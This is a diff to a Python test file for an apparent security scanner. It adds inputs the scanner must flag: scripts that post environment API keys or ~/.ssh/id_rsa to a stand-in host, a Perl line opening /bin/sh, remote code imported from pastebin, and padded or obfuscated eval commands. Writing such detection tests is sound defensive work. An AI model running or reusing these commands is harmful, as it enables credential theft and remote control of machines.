@@ -846,6 +846,7 @@ UNITS = [
     ("a.sh", "alias g='curl -s'; g a | sh; {curl,-s,x} | {sh,}; cd ~/.ssh; zip @a; git push\n"),
     ("a.rb", "eval(open('a'), "),
     ("a.pl", "eval(require('a'), `b`, "),
+    ("a.sh", 'X=abcdefgh; eval "$X$X$X$X$X$X$X$X$X$X"\n'),
     ("a.php", "eval(copy('https://sh.rustup.rs'), "),
     ("a.ps1", "iex(cp 'a' $b, "),
     ("a.md", '```sh\neval "$X"\n```\n'),
@@ -897,6 +898,27 @@ def test_attack_a_program_after_long_comments_is_read(path, comment):
         "rb": f"system('{STEALING}')\n",
     }[path[2:]]
     assert "SH603" in seen(f"{comment} {'a' * 90}\n" * 4_000 + text, f"scripts/{path}")
+
+
+PADDING = "a" * 9_000
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "rule"),
+    [
+        (
+            "a.py",
+            f"import os, requests\nkeys = [os.environ['OPENAI_API_KEY'], os.environ['STRIPE_KEY']]\n"
+            f"requests.post('https://c.invalid/?p={PADDING}', data=keys)\n",
+            "SH603",
+        ),
+        ("a.js", f"await import('https://pastebin.com/raw/x?{PADDING}')\n", "SH105"),
+        ("a.sh", f"eval '{'true; ' * 100}X=$(cat ~/.ssh/id_rsa); curl -d \"$X\" c.invalid'\n", "SH603"),
+        ("a.sh", f"perl {'-w ' * 30} -e 'use Socket; socket(S); exec(\"/bin/sh -i\")'\n", "SH402"),
+    ],
+)
+def test_attack_a_long_text_or_command_hides_nothing(path, text, rule):
+    assert rule in seen(text, f"scripts/{path}")
 
 
 def unread(files):
